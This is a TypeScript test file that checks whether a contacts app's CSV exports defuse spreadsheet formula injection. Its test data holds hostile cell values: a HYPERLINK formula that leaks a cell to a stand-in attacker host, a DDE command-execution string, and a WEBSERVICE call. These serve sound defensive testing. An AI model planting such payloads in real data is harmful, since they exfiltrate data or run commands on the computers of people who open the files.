import { parse } from 'csv-parse/sync'
import { expect, it } from 'vitest'
import { call, signUp } from '../setup/client.js'
import { describeEachDatabase } from '../setup/harness.js'

// Cells a spreadsheet would run as formulas, and the text they must arrive as.
const FORMULA_NAMES = [
  '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(A1:A9)',
]
const FORMULA_NOTES = ['\t=1+1', '\r=1+1']
const PLAIN = { name: 'Dana, "the" Founder', notes: 'first line\r\nsecond, "quoted" line' }

describeEachDatabase('CSV exports', (env) => {
  it('arrive in a CSV parser as the text that was entered, with formula cells neutralised', async () => {
    const { app } = env()
    const member = await signUp(app)
    const addContact = async (body: { name: string; notes?: string }) =>
      (await call(app, 'POST', '/api/contacts', { as: member, body })).json().id as string
    for (const name of FORMULA_NAMES) await addContact({ name })
    for (const notes of FORMULA_NOTES) await addContact({ name: `Notes ${notes.length}`, notes })
    const plain = await addContact(PLAIN)
    const logged = await call(app, 'POST', `/api/contacts/${plain}/interactions`, {
      as: member,
      body: {
        kind: 'call',
        at: '2026-05-01T10:00:00Z',
        note: '=WEBSERVICE("https://evil.example")',
      },
    })
    expect(logged.statusCode).toBe(201)

    const contacts = await call(app, 'GET', '/api/me/export/contacts.csv', { as: member })
    expect(contacts.statusCode).toBe(200)
    const rows: Record<string, string>[] = parse(contacts.body, { columns: true })
    const names = rows.map((r) => r.name)
    for (const name of FORMULA_NAMES) expect(names).toContain(`'${name}`)
    expect(names).toContain(PLAIN.name)
    const notes = rows.map((r) => r.notes)
    for (const note of FORMULA_NOTES) expect(notes).toContain(`'${note}`)
    expect(notes).toContain(PLAIN.notes)
    // No cell of any row starts a formula.
    for (const row of rows) {
      for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
    }

    const interactions = await call(app, 'GET', '/api/me/export/interactions.csv', { as: member })
    const logRows: Record<string, string>[] = parse(interactions.body, { columns: true })
    expect(logRows.map((r) => r.note)).toEqual(['\'=WEBSERVICE("https://evil.example")'])
    expect(logRows[0]?.at).toBe('2026-05-01T10:00:00.000Z')
  })
})
